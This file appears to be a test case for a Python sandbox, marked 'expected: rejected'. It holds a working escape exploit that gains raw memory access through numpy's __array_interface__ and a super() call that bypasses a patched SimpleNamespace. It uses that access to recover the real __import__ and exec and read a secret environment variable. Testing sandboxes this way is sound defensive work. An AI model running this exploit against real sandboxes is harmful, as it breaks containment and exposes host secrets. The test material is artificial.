# id: data-super-past-namespace-stand-in
# category: data
# technique: super(types.SimpleNamespace, ns).__init__ is the real SimpleNamespace.__init__, past the sandbox's stand-in that checks the keywords: it makes "__array_interface__" an attribute; raw memory then yields the real __import__ and exec
# success: the host's environment is read through the real __import__
# expected: rejected
import json
import types

import numpy as np


def mem(address, count):
    iface = {"shape": (count,), "typestr": "<u8", "data": (address, False), "version": 3}
    ns = types.SimpleNamespace()
    super(types.SimpleNamespace, ns).__init__(**{"__array_interface__": iface})
    return np.asarray(ns)


builtins_dict = int(mem(id(json.dumps) + 24, 1)[0])  # PyFunctionObject.func_builtins
keys = int(mem(builtins_dict + 32, 1)[0])  # PyDictObject.ma_keys
head = mem(keys, 4)
log2_index_bytes = (int(head[1]) >> 8) & 0xFF
kind = (int(head[1]) >> 16) & 0xFF
nentries = int(head[3])
width = 2 if kind else 3
entries = mem(keys + 32 + (1 << log2_index_bytes), nentries * width)
found = {}
for i in range(nentries):
    key, value = int(entries[i * width + width - 2]), int(entries[i * width + width - 1])
    for name in ("exec", "__import__"):
        if key == id(name):
            found[name] = value


def take(address):
    held = [None]
    mem(address, 1)[0] += 1  # the list's reference
    mem(int(mem(id(held) + 24, 1)[0]), 1)[0] = address  # PyListObject.ob_item[0]
    return held[0]


g = {"__builtins__": {"__import__": take(found["__import__"])}}
take(found["exec"])("import os\nenv = os.environ.get(%r)" % {{SECRET_ENV}}, g)
print(g["env"])
